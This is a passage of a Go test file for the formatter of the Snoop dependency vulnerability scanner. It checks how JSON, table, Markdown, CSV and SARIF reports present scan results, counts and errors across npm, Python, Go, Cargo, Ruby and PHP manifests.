@@ -0,0 +1,2135 @@
+package formatter
+
+import (
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/brandonapol/snoop/audit"
+	"github.com/brandonapol/snoop/osv"
+	"github.com/brandonapol/snoop/scanner"
+	"github.com/brandonapol/snoop/security"
+)
+
+// newNormalizeFixture builds a scan output whose lists are in the given order
+func newNormalizeFixture(timestamp time.Time, reversed bool) *ScanOutput {
+	files := []scanner.DetectedFile{
+		{Path: "/project/a/package.json", Type: scanner.PackageJSON},
+		{Path: "/project/b/requirements.txt", Type: scanner.RequirementsTxt},
+	}
+	vulns := []audit.Vulnerability{
+		{Name: "alpha", Severity: audit.SeverityHigh},
+		{Name: "beta", Severity: audit.SeverityLow},
+	}
+	pythonVulns := []audit.PythonVulnerability{
+		{Name: "django", ID: "PYSEC-1"},
+		{Name: "django", ID: "PYSEC-2"},
+	}
+	if reversed {
+		files[0], files[1] = files[1], files[0]
+		vulns[0], vulns[1] = vulns[1], vulns[0]
+		pythonVulns[0], pythonVulns[1] = pythonVulns[1], pythonVulns[0]
+	}
+
+	return &ScanOutput{
+		Metadata: OutputMetadata{
+			Timestamp:   timestamp,
+			Directory:   "/project",
+			ToolName:    "Snoop",
+			ToolVersion: "test",
+		},
+		ScanResults: &scanner.ScanResult{Files: files},
+		AuditResults: []*audit.AuditResult{
+			{PackageJSONPath: "/project/a/package.json", Vulnerabilities: vulns},
+		},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "/project/b/requirements.txt", ManifestType: "requirements.txt", Vulnerabilities: pythonVulns},
+		},
+	}
+}
+
+func TestNormalizeProducesIdenticalOutput(t *testing.T) {
+	first := newNormalizeFixture(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC), false)
+	second := newNormalizeFixture(time.Date(2025, 6, 1, 12, 30, 0, 0, time.UTC), true)
+
+	Normalize(first)
+	Normalize(second)
+
+	for _, format := range []OutputFormat{FormatJSON, FormatTable, FormatMarkdown} {
+		t.Run(string(format), func(t *testing.T) {
+			out1, err := GetFormatter(format).Format(first)
+			if err != nil {
+				t.Fatalf("Format() unexpected error: %v", err)
+			}
+			out2, err := GetFormatter(format).Format(second)
+			if err != nil {
+				t.Fatalf("Format() unexpected error: %v", err)
+			}
+
+			if out1 != out2 {
+				t.Errorf("normalized output differs between runs:\n%s\n---\n%s", out1, out2)
+			}
+			if strings.Contains(out1, "/project") {
+				t.Errorf("normalized output contains absolute paths:\n%s", out1)
+			}
+			if strings.Contains(strings.ToLower(out1), "timestamp") {
+				t.Errorf("normalized output contains a timestamp:\n%s", out1)
+			}
+		})
+	}
+
+	if first.ScanResults.Files[0].Path != "a/package.json" {
+		t.Errorf("first file = %s, expected a/package.json", first.ScanResults.Files[0].Path)
+	}
+	if first.AuditResults[0].Vulnerabilities[0].Name != "alpha" {
+		t.Errorf("first vulnerability = %s, expected alpha", first.AuditResults[0].Vulnerabilities[0].Name)
+	}
+}
+
+func TestConsolidatedErrorSection(t *testing.T) {
+	output := &ScanOutput{
+		Metadata: OutputMetadata{Directory: "/project", ToolName: "Snoop"},
+		ScanResults: &scanner.ScanResult{
+			Files:  []scanner.DetectedFile{{Path: "/project/go.mod", Type: scanner.GoMod}},
+			Errors: []error{errors.New("error accessing /project/secret: permission denied")},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			{ManifestPath: "/project/go.mod", ManifestType: "go.mod", Error: errors.New("failed to parse go.mod: unexpected EOF")},
+		},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "/project/requirements.txt", ManifestType: "requirements.txt", Warnings: []string{"failed to query django: timeout"}},
+		},
+		HasErrors: true,
+	}
+
+	expected := []string{
+		"permission denied",
+		"failed to parse go.mod: unexpected EOF",
+		"failed to query django: timeout",
+	}
+
+	jsonOut, err := GetFormatter(FormatJSON).Format(output)
+	if err != nil {
+		t.Fatalf("Format() unexpected error: %v", err)
+	}
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(jsonOut), &parsed); err != nil {
+		t.Fatalf("invalid JSON output: %v", err)
+	}
+	if len(parsed.Errors) != 3 {
+		t.Fatalf("JSON errors has %d entries, expected 3: %+v", len(parsed.Errors), parsed.Errors)
+	}
+	if parsed.Errors[0].Source != "scan" || parsed.Errors[1].Level != IssueWarning || parsed.Errors[2].Level != IssueError {
+		t.Errorf("unexpected JSON errors: %+v", parsed.Errors)
+	}
+
+	for _, format := range []OutputFormat{FormatTable, FormatMarkdown} {
+		formatted, err := GetFormatter(format).Format(output)
+		if err != nil {
+			t.Fatalf("Format(%s) unexpected error: %v", format, err)
+		}
+		idx := strings.Index(formatted, "Errors & Warnings")
+		if idx < 0 {
+			t.Fatalf("%s output missing Errors & Warnings section:\n%s", format, formatted)
+		}
+		section := formatted[idx:]
+		for _, message := range expected {
+			if !strings.Contains(section, message) {
+				t.Errorf("%s Errors & Warnings section missing %q:\n%s", format, message, section)
+			}
+		}
+	}
+}
+
+func TestAdvisoryDatesFlowIntoOutput(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		// Modified is deliberately missing to exercise lenient parsing
+		fmt.Fprint(w, `{"vulns":[{"id":"GO-2023-0001","summary":"test","published":"2023-08-01T12:30:00Z"}]}`)
+	}))
+	defer server.Close()
+
+	goModPath := filepath.Join(t.TempDir(), "go.mod")
+	if err := os.WriteFile(goModPath, []byte("module example.com/test\n\nrequire github.com/example/lib v1.0.0\n"), 0644); err != nil {
+		t.Fatalf("Failed to write go.mod: %v", err)
+	}
+
+	runner := audit.NewRunner(0, false)
+	runner.SetOSVClient(osv.NewClientWithURL(server.URL))
+	goResult := runner.RunGoAudit(goModPath, "go.mod")
+	if len(goResult.Vulnerabilities) != 1 {
+		t.Fatalf("RunGoAudit() found %d vulnerabilities, expected 1", len(goResult.Vulnerabilities))
+	}
+
+	output := &ScanOutput{
+		ScanResults:    &scanner.ScanResult{},
+		GoAuditResults: []*audit.GoAuditResult{goResult},
+		TotalVulns:     1,
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "| `GO-2023-0001` | Yes | 2023-08-01 |") {
+		t.Errorf("MarkdownFormatter.Format() missing publication date:\n%s", markdown)
+	}
+
+	jsonOutput, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(jsonOutput, `"published": "2023-08-01T12:30:00Z"`) {
+		t.Errorf("JSONFormatter.Format() missing publication timestamp:\n%s", jsonOutput)
+	}
+	if strings.Contains(jsonOutput, `"modified"`) {
+		t.Errorf("JSONFormatter.Format() included a missing modification timestamp:\n%s", jsonOutput)
+	}
+}
+
+func TestSummaryOnlyOmitsPerManifestResults(t *testing.T) {
+	output := &ScanOutput{
+		Metadata: OutputMetadata{ToolName: "Snoop", Directory: "/project"},
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{
+			{Path: "/project/package.json", Type: scanner.PackageJSON},
+			{Path: "/project/go.mod", Type: scanner.GoMod},
+		}},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/project/package.json",
+			Vulnerabilities: []audit.Vulnerability{{Name: "lodash", Severity: audit.SeverityCritical, Range: "<4.17.21"}},
+			Summary:         audit.VulnerabilitySummary{Total: 1, Critical: 1, Direct: 1},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath:    "/project/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{{Module: "golang.org/x/net", Version: "0.1.0", ID: "GO-2023-1571", Severity: "high"}},
+			Summary:         audit.VulnerabilitySummary{Total: 2, High: 1, Low: 1, Transitive: 2},
+		}},
+		TotalVulns:  3,
+		SummaryOnly: true,
+	}
+
+	for _, format := range []OutputFormat{FormatTable, FormatMarkdown} {
+		report, err := GetFormatter(format).Format(output)
+		if err != nil {
+			t.Fatalf("%s Format() unexpected error: %v", format, err)
+		}
+		for _, detail := range []string{"lodash", "golang.org/x/net", "/project/go.mod"} {
+			if strings.Contains(report, detail) {
+				t.Errorf("%s summary includes per-manifest detail %q:\n%s", format, detail, report)
+			}
+		}
+		for _, count := range []string{"3", "Critical: 1, High: 1, Moderate: 0, Low: 1"} {
+			if !strings.Contains(report, count) {
+				t.Errorf("%s summary is missing %q:\n%s", format, count, report)
+			}
+		}
+	}
+
+	report, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed map[string]any
+	if err := json.Unmarshal([]byte(report), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	for _, array := range []string{"audits", "goAudits", "manifestFiles"} {
+		if _, ok := parsed[array]; ok {
+			t.Errorf("JSON summary includes %s", array)
+		}
+	}
+	var summary JSONSummaryOutput
+	if err := json.Unmarshal([]byte(report), &summary); err != nil {
+		t.Fatalf("Failed to parse JSON summary: %v", err)
+	}
+	expected := audit.VulnerabilitySummary{Total: 3, Critical: 1, High: 1, Low: 1, Direct: 1, Transitive: 2}
+	if summary.ManifestsFound != 2 || summary.TotalVulns != 3 || summary.Summary != expected {
+		t.Errorf("JSON summary = %d manifests, %d vulnerabilities, %+v; expected 2, 3, %+v", summary.ManifestsFound, summary.TotalVulns, summary.Summary, expected)
+	}
+}
+
+func TestSummaryByEcosystemMatchesManifestSums(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{
+			{PackageJSONPath: "a/package.json", Summary: audit.VulnerabilitySummary{Total: 3, High: 2, Low: 1, Direct: 1, Transitive: 2}},
+			{PackageJSONPath: "b/package.json", Summary: audit.VulnerabilitySummary{Total: 1, Critical: 1, Direct: 1}},
+		},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "requirements.txt", Summary: audit.VulnerabilitySummary{Total: 2, Moderate: 2, Direct: 2}},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			{ManifestPath: "go.mod"},
+		},
+		TotalVulns: 6,
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+
+	expected := map[string]audit.VulnerabilitySummary{
+		EcosystemNpm:    {Total: 4, Critical: 1, High: 2, Low: 1, Direct: 2, Transitive: 2},
+		EcosystemPython: {Total: 2, Moderate: 2, Direct: 2},
+		EcosystemGo:     {},
+	}
+	if len(parsed.SummaryByEcosystem) != len(expected) {
+		t.Fatalf("summaryByEcosystem = %+v, expected %+v", parsed.SummaryByEcosystem, expected)
+	}
+
+	overall := audit.VulnerabilitySummary{}
+	for ecosystem, summary := range expected {
+		if parsed.SummaryByEcosystem[ecosystem] != summary {
+			t.Errorf("summaryByEcosystem[%s] = %+v, expected %+v", ecosystem, parsed.SummaryByEcosystem[ecosystem], summary)
+		}
+		overall.Add(summary)
+	}
+	if parsed.Summary != overall {
+		t.Errorf("summary = %+v, expected the sum of ecosystems %+v", parsed.Summary, overall)
+	}
+}
+
+func TestUniqueVulnerabilitiesCountsSharedFindingsOnce(t *testing.T) {
+	shared := audit.GoVulnerability{Module: "golang.org/x/net", Version: "v0.17.0", ID: "GO-2023-2102", Severity: "high"}
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{ToolName: "snoop"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{
+			{PackageJSONPath: "/repo/a/package.json", Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Range: "<4.17.21", Via: []any{"GHSA-p6mc-m468-83gw", "GHSA-35jh-r3h4-6jhm"}},
+			}},
+			{PackageJSONPath: "/repo/b/package.json", Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Range: "<4.17.21", Via: []any{"GHSA-35jh-r3h4-6jhm", "GHSA-p6mc-m468-83gw"}},
+			}},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			{ManifestPath: "/repo/svc-a/go.mod", Vulnerabilities: []audit.GoVulnerability{shared}},
+			{ManifestPath: "/repo/svc-b/go.mod", Vulnerabilities: []audit.GoVulnerability{shared}},
+			{ManifestPath: "/repo/svc-c/go.mod", Vulnerabilities: []audit.GoVulnerability{
+				// Another version of the module is a different occurrence
+				{Module: "golang.org/x/net", Version: "v0.15.0", ID: "GO-2023-2102", Severity: "high"},
+			}},
+		},
+		TotalVulns: 5,
+	}
+
+	if unique := UniqueVulnerabilities(output); unique != 3 {
+		t.Errorf("UniqueVulnerabilities() = %d, expected 3", unique)
+	}
+	if len(output.GoAuditResults[1].Vulnerabilities) != 1 {
+		t.Error("UniqueVulnerabilities() modified the per-manifest findings")
+	}
+	if via := output.AuditResults[1].Vulnerabilities[0].Via; via[0] != "GHSA-35jh-r3h4-6jhm" {
+		t.Errorf("UniqueVulnerabilities() reordered via: %v", via)
+	}
+
+	formatted, err := GetFormatter(FormatJSON).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var report JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("JSONFormatter.Format() produced invalid JSON: %v", err)
+	}
+	if report.TotalVulns != 5 || report.UniqueVulns != 3 {
+		t.Errorf("JSON totals = %d total, %d unique, expected 5 and 3", report.TotalVulns, report.UniqueVulns)
+	}
+
+	table, err := GetFormatter(FormatTable).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(table, "Total vulnerabilities: 5\nUnique vulnerabilities: 3 ") {
+		t.Errorf("TableFormatter.Format() missing the unique count\n%s", table)
+	}
+}
+
+func TestDependenciesScannedAreReported(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{ToolName: "snoop"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/repo/package.json",
+			PackagesScanned: 142,
+			Response: &audit.NpmAuditResponse{Metadata: audit.AuditMetadata{
+				Dependencies: audit.DependencyMetadata{Prod: 100, Dev: 40, Optional: 2, Total: 142},
+			}},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{ManifestPath: "/repo/go.mod", ModulesScanned: 8}},
+		// Nothing was scanned here, which a clean summary alone would hide
+		PythonAuditResults: []*audit.PythonAuditResult{{ManifestPath: "/repo/requirements.txt", ManifestType: "requirements.txt"}},
+		RuntimeAuditResults: []*audit.RuntimeAuditResult{{
+			ManifestPath: "/repo/.nvmrc",
+			Runtimes:     []audit.RuntimeVersion{{Runtime: "node", Version: "18.0.0"}},
+		}},
+	}
+
+	table, err := GetFormatter(FormatTable).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{
+		"Dependencies scanned: 142 (prod: 100, dev: 40, optional: 2, peer: 0)\n",
+		"Dependencies scanned: 8\n",
+		"Dependencies scanned: 0\n",
+		"Dependencies scanned: 150\nTotal vulnerabilities: 0",
+	} {
+		if !strings.Contains(table, want) {
+			t.Errorf("table output missing %q:\n%s", want, table)
+		}
+	}
+
+	markdown, err := GetFormatter(FormatMarkdown).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{"**Dependencies scanned:** 8", "**Dependencies Scanned:** 150"} {
+		if !strings.Contains(markdown, want) {
+			t.Errorf("markdown output missing %q:\n%s", want, markdown)
+		}
+	}
+
+	formatted, err := GetFormatter(FormatJSON).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var report JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("JSONFormatter.Format() produced invalid JSON: %v", err)
+	}
+	if report.PackagesScanned != 150 {
+		t.Errorf("dependenciesScanned = %d, expected 150 without the runtime version", report.PackagesScanned)
+	}
+	if npm := report.Audits[0]; npm.PackagesScanned != 142 || npm.DependencyCounts == nil || npm.DependencyCounts.Dev != 40 {
+		t.Errorf("npm result = %+v, expected 142 dependencies with npm's counts", npm)
+	}
+	if report.GoAudits[0].PackagesScanned != 8 || report.PythonAudits[0].PackagesScanned != 0 {
+		t.Errorf("per-manifest dependenciesScanned = go %d, python %d, expected 8 and 0", report.GoAudits[0].PackagesScanned, report.PythonAudits[0].PackagesScanned)
+	}
+
+	output.SummaryOnly = true
+	formatted, err = GetFormatter(FormatJSON).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(formatted, `"dependenciesScanned": 150`) {
+		t.Errorf("summary JSON missing dependenciesScanned:\n%s", formatted)
+	}
+}
+
+func TestFormatCargoAuditResults(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{{Path: "cli/Cargo.lock", Type: scanner.CargoLock}}},
+		CargoAuditResults: []*audit.CargoAuditResult{{
+			ManifestPath: "cli/Cargo.lock",
+			ManifestType: "Cargo.lock",
+			Vulnerabilities: []audit.CargoVulnerability{
+				{Name: "smallvec", Version: "1.6.0", ID: "RUSTSEC-2021-0003", FixVersions: []string{"1.6.1"}, Severity: "critical", IsDirect: true},
+			},
+			Summary: audit.VulnerabilitySummary{Critical: 1, Total: 1, Direct: 1},
+		}},
+		TotalVulns: 1,
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{"Cargo Project: cli/Cargo.lock", "smallvec", "RUSTSEC-2021-0003"} {
+		if !strings.Contains(table, want) {
+			t.Errorf("table output missing %q:\n%s", want, table)
+		}
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "### Rust Crates") || !strings.Contains(markdown, "`smallvec`") {
+		t.Errorf("markdown output missing the Cargo results:\n%s", markdown)
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	if len(parsed.CargoAudits) != 1 || len(parsed.CargoAudits[0].Vulnerabilities) != 1 {
+		t.Fatalf("cargoAudits = %+v, expected one finding", parsed.CargoAudits)
+	}
+	if parsed.SummaryByEcosystem[EcosystemCargo].Critical != 1 {
+		t.Errorf("summaryByEcosystem[cargo] = %+v, expected one critical finding", parsed.SummaryByEcosystem[EcosystemCargo])
+	}
+
+	sarif, err := (&SARIFFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("SARIFFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(sarif, "RUSTSEC-2021-0003") {
+		t.Errorf("SARIF output missing the Cargo finding:\n%s", sarif)
+	}
+}
+
+func TestFormatRubyAuditResults(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{{Path: "site/Gemfile.lock", Type: scanner.GemfileLock}}},
+		RubyAuditResults: []*audit.RubyAuditResult{{
+			ManifestPath: "site/Gemfile.lock",
+			ManifestType: "Gemfile.lock",
+			Vulnerabilities: []audit.RubyVulnerability{
+				{Name: "rack", Version: "2.2.3", ID: "GHSA-wq4h-7r42-5hrr", FixVersions: []string{"2.2.6.2"}, Severity: "high"},
+			},
+			Summary: audit.VulnerabilitySummary{High: 1, Total: 1, Transitive: 1},
+		}},
+		TotalVulns: 1,
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{"Ruby Project: site/Gemfile.lock", "rack", "2.2.6.2"} {
+		if !strings.Contains(table, want) {
+			t.Errorf("table output missing %q:\n%s", want, table)
+		}
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "### Ruby Gems") || !strings.Contains(markdown, "`rack`") {
+		t.Errorf("markdown output missing the Ruby results:\n%s", markdown)
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	if len(parsed.RubyAudits) != 1 || len(parsed.RubyAudits[0].Vulnerabilities) != 1 {
+		t.Fatalf("rubyAudits = %+v, expected one finding", parsed.RubyAudits)
+	}
+	if parsed.SummaryByEcosystem[EcosystemRuby].High != 1 {
+		t.Errorf("summaryByEcosystem[ruby] = %+v, expected one high finding", parsed.SummaryByEcosystem[EcosystemRuby])
+	}
+
+	csv, err := (&CSVFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("CSVFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(csv, "ruby,site/Gemfile.lock,rack,2.2.3,GHSA-wq4h-7r42-5hrr,high,2.2.6.2,indirect") {
+		t.Errorf("CSV output missing the Ruby finding:\n%s", csv)
+	}
+}
+
+func TestFormatComposerAuditResults(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{{Path: "web/composer.lock", Type: scanner.ComposerLock}}},
+		ComposerAuditResults: []*audit.ComposerAuditResult{{
+			ManifestPath: "web/composer.lock",
+			ManifestType: "composer.lock",
+			Vulnerabilities: []audit.ComposerVulnerability{
+				{Name: "guzzlehttp/psr7", Version: "2.1.0", ID: "GHSA-q7rv-6hp3-vh96", FixVersions: []string{"2.1.1"}, Severity: "high"},
+			},
+			Summary: audit.VulnerabilitySummary{High: 1, Total: 1, Transitive: 1},
+		}},
+		TotalVulns: 1,
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{"PHP Project: web/composer.lock", "guzzlehttp/psr7", "2.1.1"} {
+		if !strings.Contains(table, want) {
+			t.Errorf("table output missing %q:\n%s", want, table)
+		}
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "### PHP Packages") || !strings.Contains(markdown, "`guzzlehttp/psr7`") {
+		t.Errorf("markdown output missing the PHP results:\n%s", markdown)
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	if len(parsed.ComposerAudits) != 1 || len(parsed.ComposerAudits[0].Vulnerabilities) != 1 {
+		t.Fatalf("composerAudits = %+v, expected one finding", parsed.ComposerAudits)
+	}
+	if parsed.SummaryByEcosystem[EcosystemPHP].High != 1 {
+		t.Errorf("summaryByEcosystem[php] = %+v, expected one high finding", parsed.SummaryByEcosystem[EcosystemPHP])
+	}
+
+	csv, err := (&CSVFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("CSVFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(csv, "php,web/composer.lock,guzzlehttp/psr7,2.1.0,GHSA-q7rv-6hp3-vh96,high,2.1.1,indirect") {
+		t.Errorf("CSV output missing the PHP finding:\n%s", csv)
+	}
+}
+
+func TestManifestsByEcosystemAddUpToManifestsFound(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{
+			{Path: "web/package.json", Type: scanner.PackageJSON},
+			{Path: "web/package-lock.json", Type: scanner.PackageLockJSON},
+			{Path: "admin/yarn.lock", Type: scanner.YarnLock},
+			{Path: "api/requirements.txt", Type: scanner.RequirementsTxt},
+			{Path: "api/pyproject.toml", Type: scanner.PyprojectTOML},
+			{Path: "go.mod", Type: scanner.GoMod},
+			{Path: "java/pom.xml", Type: scanner.PomXML},
+			{Path: "ios/Package.resolved", Type: scanner.PackageResolved},
+			{Path: "cli/Cargo.toml", Type: scanner.CargoToml},
+			{Path: "cli/Cargo.lock", Type: scanner.CargoLock},
+			{Path: "site/Gemfile.lock", Type: scanner.GemfileLock},
+			{Path: "web/composer.lock", Type: scanner.ComposerLock},
+			{Path: ".nvmrc", Type: scanner.Nvmrc},
+		}},
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+
+	expected := map[string]int{
+		EcosystemNpm:     3,
+		EcosystemPython:  2,
+		EcosystemGo:      1,
+		EcosystemMaven:   1,
+		EcosystemSwift:   1,
+		EcosystemCargo:   2,
+		EcosystemRuby:    1,
+		EcosystemPHP:     1,
+		EcosystemRuntime: 1,
+	}
+	if !reflect.DeepEqual(parsed.ManifestsByEcosystem, expected) {
+		t.Errorf("manifestsByEcosystem = %v, expected %v", parsed.ManifestsByEcosystem, expected)
+	}
+
+	sum := 0
+	for _, count := range parsed.ManifestsByEcosystem {
+		sum += count
+	}
+	if sum != parsed.ManifestsFound {
+		t.Errorf("manifestsByEcosystem adds up to %d, expected manifestsFound %d", sum, parsed.ManifestsFound)
+	}
+}
+
+func TestOnlyFixableHidesUnfixableFindings(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Severity: audit.SeverityHigh, IsDirect: true, FixAvailable: audit.FixAvailable{Available: true, Name: "lodash", Version: "4.17.21"}},
+				{Name: "minimist", Severity: audit.SeverityCritical, FixAvailable: audit.FixAvailable{Available: true}},
+				{Name: "left-pad", Severity: audit.SeverityLow, FixAvailable: audit.FixAvailable{}},
+			},
+			Summary: audit.VulnerabilitySummary{Total: 3, Critical: 1, High: 1, Low: 1, Direct: 1, Transitive: 2},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", ID: "PYSEC-1", Severity: "high", FixVersions: []string{"3.2.1"}, IsDirect: true},
+				{Name: "flask", ID: "PYSEC-2", Severity: "high", IsDirect: true},
+			},
+			Summary: audit.VulnerabilitySummary{Total: 2, High: 2, Direct: 2},
+		}},
+		TotalVulns: 5,
+	}
+
+	OnlyFixable(output)
+
+	if output.HiddenUnfixable != 2 {
+		t.Errorf("HiddenUnfixable = %d, expected 2", output.HiddenUnfixable)
+	}
+	if output.TotalVulns != 3 {
+		t.Errorf("TotalVulns = %d, expected 3", output.TotalVulns)
+	}
+
+	npm := output.AuditResults[0]
+	if len(npm.Vulnerabilities) != 2 || npm.Vulnerabilities[0].Name != "lodash" || npm.Vulnerabilities[1].Name != "minimist" {
+		t.Errorf("npm vulnerabilities = %+v, expected lodash and minimist", npm.Vulnerabilities)
+	}
+	expectedNpm := audit.VulnerabilitySummary{Total: 2, Critical: 1, High: 1, Direct: 1, Transitive: 1}
+	if npm.Summary != expectedNpm {
+		t.Errorf("npm summary = %+v, expected %+v", npm.Summary, expectedNpm)
+	}
+
+	python := output.PythonAuditResults[0]
+	if len(python.Vulnerabilities) != 1 || python.Vulnerabilities[0].Name != "django" {
+		t.Errorf("python vulnerabilities = %+v, expected only django", python.Vulnerabilities)
+	}
+	expectedPython := audit.VulnerabilitySummary{Total: 1, High: 1, Direct: 1}
+	if python.Summary != expectedPython {
+		t.Errorf("python summary = %+v, expected %+v", python.Summary, expectedPython)
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(table, "Hidden (no fix available): 2") {
+		t.Errorf("TableFormatter.Format() missing hidden count:\n%s", table)
+	}
+}
+
+func TestRegisteredManifestIsDetectedAndAudited(t *testing.T) {
+	const manifestType = "deps.custom"
+
+	if err := scanner.RegisterManifest(manifestType, string(osv.PyPI)); err != nil {
+		t.Fatalf("RegisterManifest() unexpected error: %v", err)
+	}
+	// A toy format: one "name version" pair per line
+	err := audit.RegisterParser(manifestType, func(path string) ([]audit.ManifestPackage, error) {
+		data, err := os.ReadFile(path)
+		if err != nil {
+			return nil, err
+		}
+		var packages []audit.ManifestPackage
+		for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+			fields := strings.Fields(line)
+			packages = append(packages, audit.ManifestPackage{Name: fields[0], Version: fields[1], IsDirect: true})
+		}
+		return packages, nil
+	})
+	if err != nil {
